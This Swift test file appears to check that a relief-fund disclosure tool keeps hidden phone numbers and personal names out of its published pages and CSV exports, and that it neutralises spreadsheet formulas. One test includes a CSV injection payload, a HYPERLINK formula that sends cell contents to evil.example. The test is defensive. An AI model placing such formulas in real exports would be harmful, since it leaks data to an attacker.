import Foundation
import ReliefDisclosure
import ReliefLedger
import XCTest

/// Every hostile string of `PrivacyCorpus`, booked as a counterparty and a memo, checked
/// against every file of the site (HTML, JSON, CSV) and against `export --format csv`.
final class PrivacyCorpusTests: DisclosureTestCase {
  /// The union that books item `index`.
  static func union(_ index: Int) -> String { String(format: "u%02d", index) }

  /// A ledger with one union per corpus item, its disbursement's counterparty and memo the
  /// item (restored after import, as an older relief wrote them), and one union, `safe`,
  /// with an organisation and a memo of known words.
  private func makeCorpusLedger() throws -> String {
    let ledger = directory + "/corpus"
    XCTAssertEqual(relief(["init", "--ledger", ledger, "--origin", "test.example/c"]).status, 0)
    var rows = [
      "kind,date,id,name,parent,union,to,program,amount,counterparty,category,headcount,memo",
      "union,2022-03-01,city,南通市总工会,,,,,,,,,",
      "union,2022-03-01,safe,\"=1+2 工会\",city,,,,,,,,",
      "program,2022-03-01,fund,\"+SUM(1) 基金\",,,,,,,,,",
      "receipt,2022-03-02,,,,city,,fund,1000000,市财政,,,",
      "allocation,2022-03-03,,,,city,safe,fund,1000,,,,",
      "disbursement,2022-03-04,,,,safe,,fund,100,\(PrivacyCorpus.safeCounterparty),consolation,1,"
        + PrivacyCorpus.safeMemo,
    ]
    var placeholders: [String: String] = [:]
    for (index, item) in PrivacyCorpus.items.enumerated() {
      let union = Self.union(index)
      placeholders["cp-\(index)"] = item.text
      placeholders["memo-\(index)"] = item.text
      rows.append("union,2022-03-01,\(union),工会\(index),city,,,,,,,,")
      rows.append("allocation,2022-03-03,,,,city,\(union),fund,1000,,,,")
      rows.append(
        "disbursement,2022-03-04,,,,\(union),,fund,\(index + 1),cp-\(index),consolation,1,memo-\(index)"
      )
    }
    let csv = directory + "/corpus.csv"
    try (rows.joined(separator: "\n") + "\n").write(toFile: csv, atomically: true, encoding: .utf8)
    let outcome = relief(["import", csv, "--ledger", ledger])
    XCTAssertEqual(outcome.status, 0, outcome.err)
    try OldLedgerMemos.restore(placeholders, ledger: ledger, keyPath: keyPath)
    XCTAssertEqual(relief(["verify", "--ledger", ledger]).status, 0)
    return ledger
  }

  /// Every file of the site and the CSV export, by name.
  private func publicOutputs() throws -> [String: String] {
    let ledger = try makeCorpusLedger()
    let site = directory + "/site"
    let disclosed = relief(["disclose", "--ledger", ledger, "--out", site])
    XCTAssertEqual(disclosed.status, 0, disclosed.err)
    var outputs: [String: String] = [:]
    let enumerator = FileManager.default.enumerator(atPath: site)
    while let path = enumerator?.nextObject() as? String {
      var isDirectory: ObjCBool = false
      _ = FileManager.default.fileExists(atPath: site + "/" + path, isDirectory: &isDirectory)
      if !isDirectory.boolValue { outputs[path] = try read(site + "/" + path) }
    }
    let export = relief(["export", "--format", "csv", "--ledger", ledger])
    XCTAssertEqual(export.status, 0, export.err)
    outputs["export.csv"] = export.out
    return outputs
  }

  /// Letters and digits only, compatibility forms folded (`１` → `1`).
  private func bare(_ text: String) -> String {
    String(text.precomposedStringWithCompatibilityMapping.filter { $0.isLetter || $0.isNumber })
  }

  func testCorpusHoldsAtLeastFiftyHostileStrings() {
    XCTAssertGreaterThanOrEqual(PrivacyCorpus.items.count, 50)
    XCTAssertGreaterThanOrEqual(PrivacyCorpus.items.filter { !$0.secrets.isEmpty }.count, 50)
  }

  func testNoSecretReachesAnyPublicOutput() throws {
    let outputs = try publicOutputs()
    XCTAssertNotNil(outputs["unions/u00.html"])
    XCTAssertNotNil(outputs["data/unions/u00.json"])
    for (path, text) in outputs {
      let flat = bare(text)
      for item in PrivacyCorpus.items {
        for secret in item.secrets {
          XCTAssertFalse(text.contains(secret), "\(path) shows '\(secret)' of '\(item.text)'")
          XCTAssertFalse(
            flat.contains(bare(secret)), "\(path) shows '\(secret)' of '\(item.text)' spaced out")
        }
      }
    }
  }

  func testCounterpartiesArePublishedInTheirExactForms() throws {
    let outputs = try publicOutputs()
    let export = CSVTestReader.rows(outputs["export.csv"] ?? "")
    for (text, published) in PrivacyCorpus.publishedCounterparties {
      let union =
        text == PrivacyCorpus.safeCounterparty
        ? "safe" : Self.union(PrivacyCorpus.items.firstIndex { $0.text == text } ?? -1)
      let json = outputs["data/unions/\(union).json"] ?? ""
      XCTAssertTrue(json.contains("\"counterparty\":\"\(published)\""), "\(text): \(json)")
      let page = outputs["unions/\(union).html"] ?? ""
      XCTAssertTrue(
        page.contains("<td class=\"w\" data-label=\"对象\">\(HTML.escape(published))</td>"), text)
      let rows = export.filter { $0.count > 8 && $0[2] == "disbursement" && $0[3] == union }
      XCTAssertEqual(rows.map { $0[8] }, [published], text)
    }
  }

  func testMemosArePublishedOnlyWhenEveryCheckPasses() throws {
    let outputs = try publicOutputs()
    let safe = outputs["data/unions/safe.json"] ?? ""
    XCTAssertTrue(safe.contains("\"memo\":\"\(PrivacyCorpus.safeMemo)\""), safe)
    XCTAssertTrue(
      outputs["unions/safe.html"]?.contains("<td class=\"w\" data-label=\"来源或备注\">日期为推定</td>")
        ?? false)
    for (index, item) in PrivacyCorpus.items.enumerated() where !item.secrets.isEmpty {
      let json = outputs["data/unions/\(Self.union(index)).json"] ?? ""
      XCTAssertTrue(json.contains("\"memo_withheld\":true"), "\(item.text): \(json)")
      // A counterparty holding an identifier is withheld whole, and says so; one that is
      // withheld has no name in the data.
      let withheld = json.contains("\"counterparty_withheld\":true")
      if IdentifierScreen.find(in: item.text) != nil { XCTAssertTrue(withheld, item.text) }
      XCTAssertNotEqual(json.contains("\"counterparty\":"), withheld, item.text)
      XCTAssertFalse(json.contains("\"memo\":"), item.text)
      XCTAssertTrue(
        outputs["unions/\(Self.union(index)).html"]?.contains(
          "<td class=\"w\" data-label=\"来源或备注\">（不公开）</td>")
          ?? false)
    }
  }

  func testNoCSVCellStartsAFormula() throws {
    let outputs = try publicOutputs()
    var checked = 0
    for (path, text) in outputs where path.hasSuffix(".csv") {
      for row in CSVTestReader.rows(text) {
        for cell in row {
          checked += 1
          if cell.range(of: "^-?[0-9]+(\\.[0-9]+)?$", options: .regularExpression) != nil {
            continue
          }
          let first = cell.unicodeScalars.first { !" \u{3000}\u{A0}".unicodeScalars.contains($0) }
          XCTAssertFalse(
            first.map { "=+-@\t\r＝＋－＠".unicodeScalars.contains($0) } ?? false,
            "\(path): cell '\(cell)' starts a formula")
        }
      }
    }
    XCTAssertGreaterThan(checked, 1000)
    let export = CSVTestReader.rows(outputs["export.csv"] ?? "")
    let memos = Set(export.map { $0[15] })
    for formula in ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+2", "＝1+2", "=1+2"] {
      XCTAssertTrue(memos.contains("'" + formula), formula)
    }
    XCTAssertTrue(export.contains { $0[2] == "disbursement" && $0[7] == "-100.00" })
    let balances = CSVTestReader.rows(outputs["data/balances.csv"] ?? "")
    XCTAssertTrue(balances.contains { $0.contains("'=1+2 工会") }, "\(balances)")
  }

  func testPreviewShowsEachVerdictAndWritesNothing() throws {
    let ledger = try makeCorpusLedger()
    let preview = relief(["disclose", "--ledger", ledger, "--preview"])
    XCTAssertEqual(preview.status, 0, preview.err)
    let out = preview.out
    XCTAssertTrue(out.contains(": '张三家属' -> '张*家属'  -- may name a person: '张三'"), out)
    XCTAssertTrue(out.contains(": '顺义区卫健委'\n"), out)
    XCTAssertTrue(out.contains(": '日期为推定'\n"), out)
    XCTAssertTrue(
      out.contains(
        ": '138<U+200B>1234<U+200B>5678' -> (not published)  -- holds what looks like a mobile "
          + "number (138******78)"), out)
    let count = PrivacyCorpus.items.count
    XCTAssertTrue(
      out.contains("Counterparties: \(count + 2) distinct in \(count + 2) entries"), out)
    let withOut = relief(["disclose", "--ledger", ledger, "--preview", "--out", directory + "/x"])
    XCTAssertEqual(withOut.status, 2, withOut.err)
    XCTAssertFalse(FileManager.default.fileExists(atPath: directory + "/x"))
  }
}
